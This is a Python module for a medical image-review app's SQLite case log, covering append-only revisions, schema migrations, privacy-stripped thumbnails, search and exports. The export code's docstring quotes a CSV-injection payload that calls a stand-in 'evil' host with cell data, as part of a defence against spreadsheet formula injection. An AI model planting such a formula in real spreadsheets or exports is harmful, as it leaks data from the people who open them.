"""CaseStore: the review log of the VisionCLIP app, one SQLite file managed with sqlite-utils.

One clear API (everything else in this module is private):

    store = CaseStore("visionclip_cases.db")
    case_id = store.log_case(CaseRecord(...))            # new case + its first review revision
    store.add_revision(case_id, reviewer=..., verdict=...)  # a correction: appended, never overwritten
    store.get_case(case_id)                              # dict with thumbnails and "history"
    store.search(reviewer=, label=, verdict=, date_from=, date_to=, text=)  # list of dicts, no blobs
    store.export_csv(path, rows) / store.export_json(path, rows)
    store.agreement(rows)                                # model-vs-reviewer agreement
    store.schema_version

Design:
* Privacy: a case keeps the image SHA-256 and a small thumbnail re-encoded from raw pixels (no EXIF,
  no text chunks, no ICC profile). The original file name and a patient identifier are stored only when
  the caller passes ``store_identifiers=True`` (the UI's opt-in box); otherwise they are NULL.
* History: every review is a row in ``revisions``; triggers forbid UPDATE and DELETE on that table.
  ``cases`` mirrors the latest revision (verdict, labels, ...) so it can be filtered quickly.
* Schema: versioned; ``MIGRATIONS`` is an ordered list of functions, each applied once inside a
  transaction and recorded in ``schema_migrations``.
* Concurrency: WAL journal, a busy timeout, one short-lived connection per operation and
  ``BEGIN IMMEDIATE`` for writes, so several app sessions (threads or processes) can log at once.
"""
from __future__ import annotations

import contextlib
import csv
import dataclasses
import datetime as _dt
import hashlib
import io
import json
import sqlite3
import threading
from pathlib import Path
from typing import Any, Callable, Iterator

import sqlite_utils
from PIL import Image

VERDICTS = ("agree", "disagree", "ungradable")
BUSY_TIMEOUT_MS = 30_000
THUMBNAIL_MAX_SIDE = 256
CSV_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

# Columns returned by search()/exports (the blobs are left out).
LIST_COLUMNS = [
    "id", "created_at", "updated_at", "reviewer", "verdict", "predicted_label", "corrected_labels",
    "confidence", "notes", "model_id", "saliency_method", "saliency_target", "saliency_class", "image_sha256",
    "prompt_set_sha256", "probabilities", "prompt_set_json", "original_filename", "patient_id",
    "n_revisions",
]


class StoreError(ValueError):
    """Bad input to the store (one line, safe to show to a user)."""


def _unavailable(e: sqlite3.Error) -> str:
    """One line for a database the operating system will not let us use; a write was rolled back whole."""
    msg = str(e).lower()
    if "readonly" in msg or "read-only" in msg:
        why = "the case log is read-only"
    elif "full" in msg or "disk i/o" in msg:
        why = "the case log's disk is full or failing"
    elif "unable to open" in msg:
        why = "the case log cannot be opened (read-only, full or missing folder)"
    elif "locked" in msg or "busy" in msg:
        why = "the case log is busy"
    else:
        why = f"the case log cannot be used ({' '.join(str(e).split())[:120]})"
    return f"Case log unavailable: {why}; nothing was changed. Analyses still work; save again once it is fixed."


def _storable(text: str | None, what: str) -> str | None:
    """Text SQLite can store: lone surrogates (which a JSON payload can carry) are refused in one line."""
    if text is None:
        return None
    try:
        text.encode("utf-8")
    except UnicodeEncodeError:
        raise StoreError(f"{what} contains characters that are not valid Unicode text.") from None
    return text


def _file_name(name: str | None) -> str | None:
    """A file name that was not UTF-8 on disk (surrogate-escaped bytes) is kept readable, not refused."""
    return name.encode("utf-8", "surrogateescape").decode("utf-8", "replace") if name else None


def utc_now() -> str:
    return _dt.datetime.now(_dt.timezone.utc).isoformat(timespec="milliseconds")


def sha256_bytes(data: bytes) -> str:
    return hashlib.sha256(data).hexdigest()


def strip_and_thumbnail(image: Image.Image, max_side: int = THUMBNAIL_MAX_SIDE, fmt: str = "PNG") -> bytes:
    """Return a small PNG/JPEG of ``image`` rebuilt from raw pixels: no EXIF, XMP, ICC or text chunks."""
    im = image.convert("RGB")
    im.thumbnail((max_side, max_side))
    clean = Image.frombytes("RGB", im.size, im.tobytes())  # a fresh image: carries no .info at all
    buf = io.BytesIO()
    if fmt.upper() == "JPEG":
        clean.save(buf, format="JPEG", quality=85)
    else:
        clean.save(buf, format="PNG", optimize=False)
    return buf.getvalue()


@dataclasses.dataclass
class CaseRecord:
    """One analysed image and its first review."""

    reviewer: str
    verdict: str
    image_sha256: str
    thumbnail: bytes
    prompt_set_json: str
    prompt_set_sha256: str
    probabilities: dict[str, float]
    model_id: str
    predicted_label: str
    saliency_method: str | None = None
    saliency_target: str | None = None  # softmax | similarity: which score the map explains
    saliency_class: str | None = None
    saliency_thumbnail: bytes | None = None
    corrected_labels: list[str] = dataclasses.field(default_factory=list)
    confidence: float | None = None
    notes: str = ""
    store_identifiers: bool = False
    original_filename: str | None = None
    patient_id: str | None = None


# ----------------------------------------------------------------------------------------- migrations
def _m001_initial(db: sqlite_utils.Database) -> None:
    db["cases"].create(
        {
            "id": int, "created_at": str, "updated_at": str, "reviewer": str, "verdict": str,
            "corrected_labels": str, "confidence": float, "notes": str,
            "image_sha256": str, "thumbnail": bytes, "prompt_set_json": str, "prompt_set_sha256": str,
            "probabilities": str, "model_id": str, "predicted_label": str,
            "saliency_method": str, "saliency_class": str,
            "original_filename": str, "patient_id": str,
        },
        pk="id",
        not_null=["created_at", "reviewer", "verdict", "image_sha256", "model_id", "predicted_label"],
    )
    db["revisions"].create(
        {
            "id": int, "case_id": int, "revision": int, "created_at": str, "reviewer": str,
            "verdict": str, "corrected_labels": str, "confidence": float, "notes": str,
        },
        pk="id",
        foreign_keys=[("case_id", "cases", "id")],
        not_null=["case_id", "revision", "created_at", "reviewer", "verdict"],
    )
    db["revisions"].create_index(["case_id", "revision"], unique=True)


def _m002_indexes_and_append_only(db: sqlite_utils.Database) -> None:
    for cols in (["reviewer"], ["verdict"], ["predicted_label"], ["created_at"], ["image_sha256"]):
        db["cases"].create_index(cols, if_not_exists=True)
    # Revisions are history: they may be appended, never rewritten or removed.
    db.executescript(
        """
        CREATE TRIGGER IF NOT EXISTS revisions_no_update BEFORE UPDATE ON revisions
        BEGIN SELECT RAISE(ABORT, 'revisions are append-only'); END;
        CREATE TRIGGER IF NOT EXISTS revisions_no_delete BEFORE DELETE ON revisions
        BEGIN SELECT RAISE(ABORT, 'revisions are append-only'); END;
        """
    )


def _m003_saliency_thumbnail(db: sqlite_utils.Database) -> None:
    db["cases"].add_column("saliency_thumbnail", bytes)
    db["cases"].add_column("n_revisions", int, not_null_default=1)


def _m004_saliency_target(db: sqlite_utils.Database) -> None:
    db["cases"].add_column("saliency_target", str)  # NULL for cases logged before targets were offered


MIGRATIONS: list[tuple[int, str, Callable[[sqlite_utils.Database], None]]] = [
    (1, "initial cases and revisions tables", _m001_initial),
    (2, "indexes and append-only triggers on revisions", _m002_indexes_and_append_only),
    (3, "saliency thumbnail and revision count on cases", _m003_saliency_thumbnail),
    (4, "saliency target on cases", _m004_saliency_target),
]
SCHEMA_VERSION = MIGRATIONS[-1][0]


# ----------------------------------------------------------------------------------------- the store
class CaseStore:
    """The app's case log. Thread-safe: each call opens its own short-lived connection."""

    _init_lock = threading.Lock()

    def __init__(self, path: str | Path, *, target_version: int | None = None):
        self.path = Path(path)
        if str(path) != ":memory:":
            self.path.parent.mkdir(parents=True, exist_ok=True)
        with self._init_lock, self._connect() as db:
            with db.ensure_autocommit_on():
                db.execute("PRAGMA journal_mode=WAL")
            self._migrate(db, SCHEMA_VERSION if target_version is None else target_version)

    # -- connections and transactions
    @contextlib.contextmanager
    def _connect(self) -> Iterator[sqlite_utils.Database]:
        try:
            conn = sqlite3.connect(str(self.path), timeout=BUSY_TIMEOUT_MS / 1000, isolation_level=None,
                                   check_same_thread=False)
            try:
                conn.execute(f"PRAGMA busy_timeout={BUSY_TIMEOUT_MS}")
                conn.execute("PRAGMA foreign_keys=ON")
                yield sqlite_utils.Database(conn)
            finally:
                conn.close()
        except sqlite3.OperationalError as e:  # full disk, read-only file, lost folder: one line, not a traceback
            raise StoreError(_unavailable(e)) from None

    @contextlib.contextmanager
    def _write(self) -> Iterator[sqlite_utils.Database]:
        """A write transaction taken with BEGIN IMMEDIATE (no lock-upgrade deadlocks under WAL)."""
        with self._connect() as db:
            db.conn.execute("BEGIN IMMEDIATE")
            try:
                yield db
            except BaseException:
                db.conn.execute("ROLLBACK")
                raise
            else:
                db.conn.execute("COMMIT")

    # -- schema
    def _migrate(self, db: sqlite_utils.Database, target: int) -> None:
        if "schema_migrations" not in db.table_names():
            db["schema_migrations"].create(
                {"version": int, "name": str, "applied_at": str}, pk="version", if_not_exists=True)
        done = {r["version"] for r in db["schema_migrations"].rows}
        for version, name, fn in MIGRATIONS:
            if version in done or version > target:
                continue
            db.conn.execute("BEGIN IMMEDIATE")
            try:
                # Another process may have applied it while we waited for the lock.
                if db["schema_migrations"].count_where("version = ?", [version]):
                    db.conn.execute("COMMIT")
                    continue
                fn(db)
                db["schema_migrations"].insert({"version": version, "name": name, "applied_at": utc_now()})
            except BaseException:
                db.conn.execute("ROLLBACK")
                raise
            db.conn.execute("COMMIT")

    @property
    def schema_version(self) -> int:
        with self._connect() as db:
            rows = list(db.query("select max(version) as v from schema_migrations"))
            return int(rows[0]["v"] or 0)

    def migrations(self) -> list[dict]:
        with self._connect() as db:
            return list(db["schema_migrations"].rows_where(order_by="version"))

    def journal_mode(self) -> str:
        with self._connect() as db:
            return db.journal_mode

    # -- validation
    @staticmethod
    def _check_review(reviewer: str, verdict: str, confidence: float | None) -> tuple[str, str, float | None]:
        reviewer = _storable(" ".join(str(reviewer or "").split()), "The reviewer name")
        if not reviewer:
            raise StoreError("Reviewer name is required.")
        if len(reviewer) > 100:
            raise StoreError("Reviewer name is too long (100 characters at most).")
        verdict = str(verdict or "").strip().lower()
        if verdict not in VERDICTS:
            raise StoreError(f"Verdict must be one of: {', '.join(VERDICTS)}.")
        if confidence is not None:
            try:
                confidence = float(confidence)
            except (TypeError, ValueError):
                raise StoreError("Confidence must be a number between 0 and 1.") from None
            if not 0.0 <= confidence <= 1.0:
                raise StoreError("Confidence must be a number between 0 and 1.")
        return reviewer, verdict, confidence

    # -- writes
    def log_case(self, rec: CaseRecord) -> int:
        """Insert a new case with its first revision; returns the case id."""
        reviewer, verdict, confidence = self._check_review(rec.reviewer, rec.verdict, rec.confidence)
        if not rec.image_sha256 or not rec.model_id or not rec.predicted_label:
            raise StoreError("A case needs an analysed image (hash, model id and prediction).")
        now = utc_now()
        labels_json = json.dumps(list(rec.corrected_labels or []))
        notes = _storable(str(rec.notes or ""), "The notes")
        for text, what in ((rec.predicted_label, "The predicted label"), (rec.prompt_set_json, "The prompt set"),
                           (rec.patient_id, "The patient identifier")):
            _storable(text, what)
        row = {
            "created_at": now, "updated_at": now, "reviewer": reviewer, "verdict": verdict,
            "corrected_labels": labels_json, "confidence": confidence, "notes": notes,
            "image_sha256": rec.image_sha256, "thumbnail": rec.thumbnail,
            "prompt_set_json": rec.prompt_set_json, "prompt_set_sha256": rec.prompt_set_sha256,
            "probabilities": json.dumps(rec.probabilities, sort_keys=True),
            "model_id": rec.model_id, "predicted_label": rec.predicted_label,
            "saliency_method": rec.saliency_method, "saliency_target": rec.saliency_target,
            "saliency_class": rec.saliency_class, "saliency_thumbnail": rec.saliency_thumbnail, "n_revisions": 1,
            "original_filename": _file_name(rec.original_filename) if rec.store_identifiers else None,
            "patient_id": (rec.patient_id or None) if rec.store_identifiers else None,
        }
        with self._write() as db:
            case_id = db["cases"].insert(row).last_pk
            db["revisions"].insert({
                "case_id": case_id, "revision": 1, "created_at": now, "reviewer": reviewer,
                "verdict": verdict, "corrected_labels": labels_json, "confidence": confidence, "notes": notes,
            })
        return int(case_id)

    def add_revision(self, case_id: int, *, reviewer: str, verdict: str, corrected_labels: list[str] | None = None,
                     confidence: float | None = None, notes: str = "") -> int:
        """Append a correction to a case's history; returns the new revision number."""
        reviewer, verdict, confidence = self._check_review(reviewer, verdict, confidence)
        labels_json = json.dumps(list(corrected_labels or []))
        notes = _storable(str(notes or ""), "The notes")
        now = utc_now()
        with self._write() as db:
            if not db["cases"].count_where("id = ?", [int(case_id)]):
                raise StoreError(f"No case with id {case_id}.")
            last = list(db.query("select coalesce(max(revision), 0) as r from revisions where case_id = ?",
                                 [int(case_id)]))[0]["r"]
            revision = int(last) + 1
            db["revisions"].insert({
                "case_id": int(case_id), "revision": revision, "created_at": now, "reviewer": reviewer,
                "verdict": verdict, "corrected_labels": labels_json, "confidence": confidence, "notes": notes,
            })
            db["cases"].update(int(case_id), {
                "updated_at": now, "reviewer": reviewer, "verdict": verdict, "corrected_labels": labels_json,
                "confidence": confidence, "notes": notes, "n_revisions": revision,
            })
        return revision

    # -- reads
    def count(self) -> int:
        with self._connect() as db:
            return db["cases"].count

    def get_case(self, case_id: int) -> dict | None:
        with self._connect() as db:
            rows = list(db["cases"].rows_where("id = ?", [int(case_id)]))
            if not rows:
                return None
            case = rows[0]
            case["history"] = list(db["revisions"].rows_where("case_id = ?", [int(case_id)], order_by="revision"))
            return case

    def history(self, case_id: int) -> list[dict]:
        with self._connect() as db:
            return list(db["revisions"].rows_where("case_id = ?", [int(case_id)], order_by="revision"))

    def search(self, *, reviewer: str | None = None, label: str | None = None, verdict: str | None = None,
               date_from: str | None = None, date_to: str | None = None, text: str | None = None,
               limit: int | None = 1000) -> list[dict]:
        """Cases, newest first. ``label`` matches the predicted label or any corrected label.

        Dates are ISO strings (``YYYY-MM-DD`` or full timestamps, UTC); ``date_to`` is inclusive of that day.
        ``text`` searches notes, reviewer and labels (case-insensitive substring).
        """
        where, args = [], []
        if reviewer:
            where.append("lower(reviewer) = lower(?)")
            args.append(reviewer.strip())
        if verdict:
            where.append("verdict = ?")
            args.append(verdict.strip().lower())
        if label:
            where.append("(predicted_label = ? or exists (select 1 from json_each(cases.corrected_labels) "
                         "where json_each.value = ?))")
            args += [label, label]
        if date_from:
            where.append("created_at >= ?")
            args.append(str(date_from).strip())
        if date_to:
            d = str(date_to).strip()
            if len(d) == 10:  # a bare date: include the whole day
                d += "T23:59:59.999+00:00"
            where.append("created_at <= ?")
            args.append(d)
        if text:
            where.append("(lower(notes) like ? or lower(reviewer) like ? or lower(corrected_labels) like ? "
                         "or lower(predicted_label) like ?)")
            args += [f"%{text.strip().lower()}%"] * 4
        with self._connect() as db:
            return list(db["cases"].rows_where(
                " and ".join(where) or None, args, order_by="id desc", select=", ".join(LIST_COLUMNS),
                limit=limit))

    def distinct(self, column: str) -> list[str]:
        if column not in ("reviewer", "predicted_label", "verdict", "model_id"):
            raise StoreError(f"Unknown column {column!r}.")
        with self._connect() as db:
            return [r[column] for r in db.query(
                f"select distinct {column} from cases where {column} is not null order by {column}")]

    # -- export and agreement
    @staticmethod
    def csv_safe(value: Any) -> Any:
        """A text cell a spreadsheet would run as a formula (=, +, -, @, tab, CR first) is prefixed with '.

        Reviewer notes, names and labels are typed by users; opened in Excel or LibreOffice, a note such as
        ``=HYPERLINK("http://evil/?"&A1, "click")`` would otherwise run (OWASP "CSV injection").
        """
        if isinstance(value, str) and value[:1] in CSV_FORMULA_STARTS:
            return "'" + value
        return value

    def export_csv(self, path: str | Path, rows: list[dict] | None = None) -> Path:
        rows = self.search(limit=None) if rows is None else rows
        path = Path(path)
        with path.open("w", newline="", encoding="utf-8") as fh:
            w = csv.DictWriter(fh, fieldnames=LIST_COLUMNS, extrasaction="ignore")
            w.writeheader()
            for r in rows:
                w.writerow({k: self.csv_safe(r.get(k)) for k in LIST_COLUMNS})
        return path

    def export_json(self, path: str | Path, rows: list[dict] | None = None, with_history: bool = True) -> Path:
        rows = self.search(limit=None) if rows is None else rows
        out = []
        for r in rows:
            item = {k: r.get(k) for k in LIST_COLUMNS}
            for k in ("probabilities", "corrected_labels"):
                try:
                    item[k] = json.loads(item[k]) if item[k] else item[k]
                except (TypeError, ValueError):
                    pass
            if with_history:
                item["history"] = self.history(r["id"])
            out.append(item)
        path = Path(path)
        path.write_text(json.dumps({"schema_version": self.schema_version, "exported_at": utc_now(),
                                    "cases": out}, indent=2), encoding="utf-8")
        return path

    @staticmethod
    def reviewer_label(row: dict) -> str | None:
        """The reviewer's label for a case: the prediction when they agreed, their first correction when not."""
        if row.get("verdict") == "agree":
            return row.get("predicted_label")
        if row.get("verdict") == "disagree":
            try:
                labels = json.loads(row.get("corrected_labels") or "[]")
            except ValueError:
                labels = []
            return labels[0] if labels else None
        return None  # ungradable

    def agreement(self, rows: list[dict] | None = None) -> dict[str, Any]:
        """Model-vs-reviewer agreement over gradable, labelled cases.

        Returns n (pairs counted), n_cases, n_ungradable, agreement_rate (None if no pairs),
        labels (sorted) and matrix (rows = reviewer label, columns = model label).
        """
        rows = self.search(limit=None) if rows is None else rows
        pairs = []
        for r in rows:
            lab = self.reviewer_label(r)
            if lab is not None and r.get("predicted_label"):
                pairs.append((lab, r["predicted_label"]))
        from sklearn.metrics import accuracy_score, confusion_matrix

        labels = sorted({a for a, _ in pairs} | {b for _, b in pairs})
        reviewer, model = [a for a, _ in pairs], [b for _, b in pairs]
        return {
            "n": len(pairs), "n_cases": len(rows),
            "n_ungradable": sum(1 for r in rows if r.get("verdict") == "ungradable"),
            "agreement_rate": float(accuracy_score(reviewer, model)) if pairs else None,
            "labels": labels,
            "matrix": confusion_matrix(reviewer, model, labels=labels).tolist() if pairs else [],
        }
